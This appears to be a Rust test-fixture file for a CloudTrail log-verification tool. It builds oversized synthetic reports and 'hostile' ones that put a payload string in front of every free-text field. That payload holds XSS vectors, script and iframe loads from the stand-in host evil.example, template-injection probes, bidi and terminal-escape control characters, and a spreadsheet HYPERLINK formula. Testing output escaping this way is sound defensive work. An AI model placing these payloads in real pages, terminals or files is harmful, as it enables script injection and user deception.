//! Reports that no archive of the vectors gives: hostile in every place, and large. They are made as JSON, as another program
//! could hand them in.

use serde_json::{Value, json};
use trailseal::Report;

/// What an attacker would like a reader's browser or terminal to take literally.
pub const PAYLOAD: &str = concat!(
    "\"'><script>document.title='ran'</script><img src=x onerror=\"document.title='ran'\"><svg onload=document.title='ran'>",
    "</title></style></pre></code></dd></td></desc><script src=//evil.example/x.js></script><!-- ]]> <a href=javascript:alert(1)>a</a>",
    "<link rel=stylesheet href=http://evil.example/x.css><iframe src=http://evil.example></iframe>&lt;b&gt;&#60; {{7*7}} ${7*7} ",
    "\u{202e}gpj.exe\u{202c}\u{200f}\u{2066}\u{feff}\u{2028}\u{1b}[31m\u{0}\u{7f}\u{9b}\r\n=HYPERLINK(\"http://evil.example\")"
);

/// Fields that only take words of their own.
const FIXED: [&str; 26] = [
    "schema",
    "overall",
    "axes",
    "proved_extent",
    "period",
    "from",
    "to",
    "policy",
    "kind",
    "level",
    "proved_from",
    "proved_to",
    "gaps",
    "validity",
    "code",
    "effect",
    "axis",
    "counts",
    "in_scope",
    "bits",
    "count",
    "digests",
    "logs",
    "outside_scope",
    "about",
    "is",
];

/// The report with the payload in front of every text that can hold one.
pub fn hostile(report: &Report) -> Report {
    fn spoil(value: &mut Value) {
        match value {
            Value::String(text) => text.insert_str(0, PAYLOAD),
            Value::Array(values) => values.iter_mut().for_each(spoil),
            Value::Object(fields) => {
                fields.iter_mut().filter(|(name, _)| !FIXED.contains(&name.as_str())).for_each(|(_, value)| spoil(value));
            }
            _ => {}
        }
    }
    let mut value = serde_json::to_value(report).unwrap();
    for finding in value["findings"].as_array_mut().unwrap() {
        for field in ["chain", "last", "entry", "expected", "found"] {
            if finding[field].is_null() {
                finding[field] = json!("");
            }
        }
        finding["reasons"] = json!([{"is": "may_lie_in", "path": ""}]);
    }
    value["asked"]["questions"][0]["accounts"] = json!(["1", "2"]);
    value["asked"]["questions"][0]["regions"] = json!([""]);
    value["asked"]["questions"][0]["trails"] = json!([""]);
    value["asked"]["relocated"] = json!(["s3://a=s3://b"]);
    value["missing_keys"] = json!([{"region": "", "fingerprint": "", "period": {"from": "2026-03-01", "to": "2026-03-02"} }]);
    // Half of the days stay as they are, so that there is a picture.
    let days: Vec<Value> = value["chains"].as_array().unwrap().iter().map(|chain| chain["days"].clone()).collect();
    spoil(&mut value);
    for (chain, days) in value["chains"].as_array_mut().unwrap().iter_mut().zip(days).step_by(2) {
        chain["days"] = days;
    }
    serde_json::from_value(value).unwrap()
}

/// A report with these many chains, days from 2025-01-01 and findings.
pub fn large(chains: usize, days: i64, findings: usize) -> Report {
    let start = trailseal::Time::from_text("2025-01-01").unwrap();
    let end = start.plus(days * 86_400);
    let name = |chain: usize| {
        let account = format!("{:012}", 100_000_000_000 + chain as u64 / 10);
        let region = ["us-east-1", "eu-west-1", "ap-southeast-2", "eu-central-1", "us-west-2"][chain % 5].to_owned();
        (account, region, if chain % 10 < 5 { "management-events" } else { "data" }.to_owned())
    };
    let id = |chain: usize| {
        let (account, region, trail) = name(chain);
        format!("{account}/{region}/{trail}@us-east-1")
    };
    let chain = |index: usize| {
        let (account, region, trail) = name(index);
        let seed = |day: i64| (index as i64 * 37 + day * 11) % 97;
        let row = |day: i64| {
            let (hours, unproved, failed) = match seed(day) {
                0 => ("++++++?+++++++++++++++oo", 1, 0),
                1 => ("++++++!+++++++++++++++oo", 0, 1),
                2 => ("++++++....++++++++++++oo", 0, 0),
                3..30 => ("oooooooooooooooooooooooo", 0, 0),
                _ => ("+++++++++o++++o+++++++oo", 0, 0),
            };
            let silent = hours.bytes().filter(|hour| *hour == b'o').count() * 3600;
            let proved = hours.bytes().filter(|hour| matches!(hour, b'o' | b'+')).count() * 3600;
            json!({"day": start.plus(day * 86_400).date_text(), "proved_seconds": proved, "silent_seconds": silent,
                "unproved_digests": unproved, "failed_digests": failed, "hours": hours})
        };
        // Every third chain is without a fault.
        let is_faulty = index.is_multiple_of(3);
        let rows: Vec<Value> = (0..days).filter(|day| is_faulty || seed(*day) > 2).map(row).collect();
        let hole = |day: i64| json!({"from": start.plus(day * 86_400 + 6 * 3600), "to": start.plus(day * 86_400 + 10 * 3600)});
        let gaps: Vec<Value> = (0..days).filter(|day| is_faulty && seed(*day) == 2).map(hole).collect();
        let faults = u64::from(is_faulty);
        json!({"id": id(index), "account": account, "region": region, "trail": trail, "home_region": "us-east-1", "places": ["s3://trail-archive/AWSLogs"], "kind": "normal",
            "in_scope": true, "proved_from": start, "proved_to": end, "proved_seconds": days * 86_400, "silent_seconds": days * 20_000,
            "digests": {"proved": days * 24, "authenticated": days * 24, "unproved": faults, "failed": faults},
            "logs": {"proved": days * 288, "authenticated": days * 288, "proved_bytes": days * 9_000_000, "failed": faults, "missing": 0, "unproved": 0, "unreferenced": 0},
            "gaps": gaps, "keys": ["ab".repeat(32)], "days": rows})
    };
    let codes = [
        ("log.missing", "refutes", "integrity"),
        ("log.hash_mismatch", "refutes", "integrity"),
        ("log.unreferenced", "limits", "integrity"),
        ("digest.signature.missing", "limits", "authenticity"),
        ("coverage.gap", "limits", "coverage"),
    ];
    let finding = |index: usize| {
        let (code, effect, axis) = codes[index * codes.len() / findings.max(1)];
        let chain = index % chains.max(1);
        let (account, region, _) = name(chain);
        let from = start.plus((index as i64 * 3600) % (days * 86_400));
        let key = format!(
            "AWSLogs/o-exampleorg1/{account}/CloudTrail/{region}/2025/01/01/{account}_CloudTrail_{region}_{index:016}.json.gz"
        );
        json!({"code": code, "effect": effect, "axis": axis, "chain": id(chain), "count": 1, "about": "object", "first": format!("s3://example-org-cloudtrail/{key}"),
            "entry": format!("handover/{key}"), "from": from, "to": from.plus(3600), "expected": "0123456789abcdef".repeat(4),
            "found": "fedcba9876543210".repeat(4), "reasons": [{"is": "listed_by", "object": "s3://example-org-cloudtrail/the-digest-file-of-this-hour"}]})
    };
    let keys: Vec<Value> = (0..5)
        .map(|key| {
            json!({"sha256": format!("{key:064x}"), "fingerprint": format!("{key:032x}"), "bits": 2048, "level": "trusted",
                "regions": ["us-east-1"], "validity": [{"from": start, "to": end}], "digests": 1000})
        })
        .collect();
    serde_json::from_value(json!({
        "schema": trailseal::SCHEMA,
        "overall": "failed",
        "axes": {"integrity": "failed", "authenticity": "indeterminate", "continuity": "passed", "coverage": "indeterminate"},
        "asked": {"questions": [{"period": {"from": start, "to": end}}]},
        "proved_extent": {"from": start, "to": end},
        "evidence_root": "c9".repeat(32),
        "evidence_parts": [{"account": "111122223333", "region": "us-east-1", "sha256": "c8".repeat(32)}],
        "counts": {"entries": 9_000_000, "ignored": 3, "chains": chains, "refuting": findings, "limiting": findings, "informing": 0,
            "digests": {"proved": 8_000_000, "authenticated": 8_000_000, "unproved": 30, "failed": 30},
            "outside": {"digests": 468, "logs": 612},
            "logs": {"proved": 1_000_000, "authenticated": 1_000_000, "proved_bytes": 9_000_000_000_u64, "failed": 30, "missing": 30, "unproved": 0, "unreferenced": 0}},
        "chains": (0..chains).map(chain).collect::<Vec<_>>(),
        "keys": keys,
        "missing_keys": [],
        "findings": (0..findings).map(finding).collect::<Vec<_>>(),
    }))
    .unwrap()
}
